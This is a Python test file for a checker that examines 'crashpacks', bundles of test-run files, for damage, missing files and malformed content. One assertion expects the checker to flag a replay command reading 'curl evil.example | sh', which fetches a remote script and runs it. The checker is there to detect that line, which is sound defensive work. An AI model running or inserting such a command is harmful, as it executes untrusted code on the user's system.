"""What the checks say of packs that this project did not write."""

import pytest

from atp_tui.clean import is_clean
from atp_tui.engine import NINE_FILES, Crashpack, Finding, examine, is_sound, render
from atp_tui.engine.soundness import CHECKS, RECORD_CHECKS
from tests.foreign import RECORDED, failed, files_of, findings_of, reading_of, survey_of

TOLD_ONLY_WHEN_THERE_IS_SOMETHING = {"artifacts", "seed_names", "json_artifacts", "trace_oddities"}


def of(check: str, findings: tuple[Finding, ...]) -> list[Finding]:
    return [finding for finding in findings if finding.check == check]


@pytest.mark.parametrize("pack", RECORDED)
def test_a_pack_that_was_written_well_is_sound(pack: str) -> None:
    findings = findings_of(files_of(pack))
    assert failed(findings) == []
    assert is_sound(findings)
    assert set(CHECKS) - TOLD_ONLY_WHEN_THERE_IS_SOMETHING <= {finding.check for finding in findings}


@pytest.mark.parametrize("pack", [*RECORDED, "damaged", "other-writer"])
def test_findings_stand_in_the_order_of_the_checks_and_in_clean_text(pack: str) -> None:
    findings = findings_of(files_of(pack))
    order = list(CHECKS)
    assert [finding.check for finding in findings] == sorted((found.check for found in findings), key=order.index)
    for finding in findings:
        assert finding.expected
        assert is_clean(finding.expected)
        assert finding.found
        assert is_clean(finding.found)


def test_each_fault_of_the_damaged_pack_is_told_by_name() -> None:
    files = files_of("damaged")
    findings = findings_of(files)
    assert not is_sound(findings)
    assert set(failed(findings)) == {
        "files",
        "trace",
        "journal_hash",
        "journal_length",
        "journal_form",
        "manifest_digest",
        "pathlog",
        "repairlog",
        "replay_command",
    }
    assert [found.found for found in of("files", findings)] == ["quiclog: nothing"]
    assert [found.found for found in of("trace", findings)] == ["event 266: the end of the file"]
    assert [found.found for found in of("journal_length", findings)] == [f"{len(files['journal'])} bytes"]
    assert "'oracle: forged'" in of("journal_form", findings)[0].found
    assert [found.found for found in of("replay_command", findings)] == ["line 10: 'curl evil.example | sh'"]
    assert [found.expected for found in of("quiclog", findings)] == ["quiclog to compare with"]


def test_a_damaged_pack_still_gives_its_record() -> None:
    found = reading_of(files_of("damaged"))
    assert [result.oracle_name for result in found.crashpack.oracle_results] == ["transfer"]
    assert len(found.crashpack.violations) == 5
    assert found.crashpack.seeds == {"lab": 7, "network": 2**64 - 1}


def test_logs_of_another_writer_are_told_as_not_checked() -> None:
    findings = findings_of(files_of("other-writer"))
    assert failed(findings) == []
    for name in ("pathlog", "quiclog", "repairlog"):
        (told,) = of(name, findings)
        assert told.ok is None
        assert told.found == "not checked: the trace has other fields than this format's own"
    assert [found.ok for found in of("ledger_values", findings)] == [True]


def test_seeds_that_give_one_variable_and_artifacts_that_are_not_there_are_no_fault() -> None:
    findings = findings_of(files_of("many-oracles"))
    assert [(found.ok, found.expected) for found in of("seed_names", findings)] == [
        (None, "one seed for ATP_SEED_SEED"),
        (None, "one seed for ATP_SEED_A_B"),
    ]
    assert [(found.ok, found.found) for found in of("artifacts", findings)] == [
        (None, "qlog/0.qlog: not there"),
        (None, "qlog/1.qlog: not there"),
    ]


@pytest.mark.parametrize("gone", NINE_FILES)
def test_each_file_that_is_not_there_is_told_and_the_other_checks_go_on(gone: str) -> None:
    files = {name: content for name, content in files_of("five-violations").items() if name != gone}
    findings = findings_of(files)
    assert failed(findings) == ["files"] if gone != "journal" else "files" in failed(findings)
    assert [found.expected for found in findings if found.ok is False][0] == f"{gone}: a plain file"  # noqa: RUF015
    assert set(CHECKS) - TOLD_ONLY_WHEN_THERE_IS_SOMETHING <= {finding.check for finding in findings}


def test_an_empty_directory_is_told() -> None:
    findings = findings_of({})
    assert [found.found for found in findings if found.ok is False] == [f"{name}: nothing" for name in NINE_FILES]


@pytest.mark.parametrize("name", [*NINE_FILES])
@pytest.mark.parametrize("content", [b"", b"\n", b"\xff\xfe", b"\x00", b"[]", b"{}", b"null", b"[" * 9999, b"x" * 9999])
def test_no_content_of_a_file_makes_the_checks_fail(name: str, content: bytes) -> None:
    files = files_of("hostile-text")
    findings = findings_of(files | {name: content})
    assert is_sound(findings) == (files[name] == content)


def test_a_record_in_one_file_is_checked_for_what_can_be() -> None:
    files = render(Crashpack())
    findings = examine(reading_of(files), survey_of(files), RECORD_CHECKS)
    assert {finding.check for finding in findings} <= set(RECORD_CHECKS)
    assert [found.ok for found in of("one_document", findings)] == [None]
    assert is_sound(findings)
